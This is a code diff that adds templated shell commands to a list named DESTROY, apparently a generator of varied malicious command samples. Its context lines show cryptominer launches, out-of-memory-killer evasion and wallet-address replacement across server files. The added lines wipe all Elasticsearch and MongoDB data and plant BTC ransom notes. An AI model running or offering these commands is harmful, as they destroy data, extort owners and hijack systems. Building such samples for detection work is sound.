@@ -167,4 +167,6 @@ DESTROY = [
     '{var}=$(($(nproc)‹*80/100¦-1¦/2›)); ‹{file}¦./{name}¦/dev/shm/{name}› ‹-t ${var}¦--threads=${var}¦--cpu-max-threads-hint {n}› ‹-o¦--url› {host}:{port} ‹-u¦--user› {wallet}‹.$(hostname)¦›‹ -p x¦ --rig-id $(hostname)¦ -k --tls› ‹-B¦>/dev/null 2>&1 &›',
     'renice ‹-n ¦›-20 -p $$ ‹>/dev/null ¦›; ‹echo -1000¦echo -17› > /proc/self/oom_‹score_adj¦adj›; ‹ionice -c1 -p $$; ¦›{file} ‹-o {host}:{port} -u {wallet}¦--donate-level 1 -B¦>/dev/null 2>&1 &›',
     "for {var} in $(grep -rlE '‹(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}¦0x[0-9a-fA-F]{40}¦4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}›' ‹/var/www¦/srv /home¦/opt› 2>/dev/null); do sed -Ei 's/‹(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}¦0x[0-9a-fA-F]{40}¦4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}›/{wallet}/g' ${var}; done",
+    'curl -s -XDELETE \'http://‹{ip}¦localhost›:9200/‹_all¦*›\'; curl -s -XPUT ‹http://{ip}:9200¦localhost:9200›/‹read_me¦how_to_recover›/_doc/1 -H \'Content-Type: application/json\' -d \'{"note": "send ‹0.01¦0.05› BTC to {wallet}, mail {user}@{domain}"}\'',
+    'for d in $(‹mongo¦mongosh› --quiet --eval \'db.getMongo().getDBNames().join(" ")\'); do ‹mongo¦mongosh› $d --quiet --eval \'db.dropDatabase()\'; done; ‹mongo¦mongosh› README --eval \'db.note.insertOne({t: "pay {wallet}"})\'',
 ]
